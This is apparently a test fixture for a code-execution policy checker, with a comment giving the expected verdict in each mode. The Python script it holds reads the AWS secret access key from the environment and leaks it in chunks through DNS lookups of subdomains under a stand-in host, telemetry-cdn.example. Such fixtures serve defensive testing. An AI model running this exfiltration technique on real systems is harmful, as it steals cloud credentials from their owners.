# expect: strict=deny standard=deny audit=allow
# Leaks a token through DNS: each lookup of <chunk>.<domain> hands a piece of
# the secret to the domain's name server.
import os
import socket

token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
for i in range(0, len(token), 30):
    try:
        socket.gethostbyname(f"{token[i:i + 30]}.{i}.telemetry-cdn.example")
    except OSError:
        pass
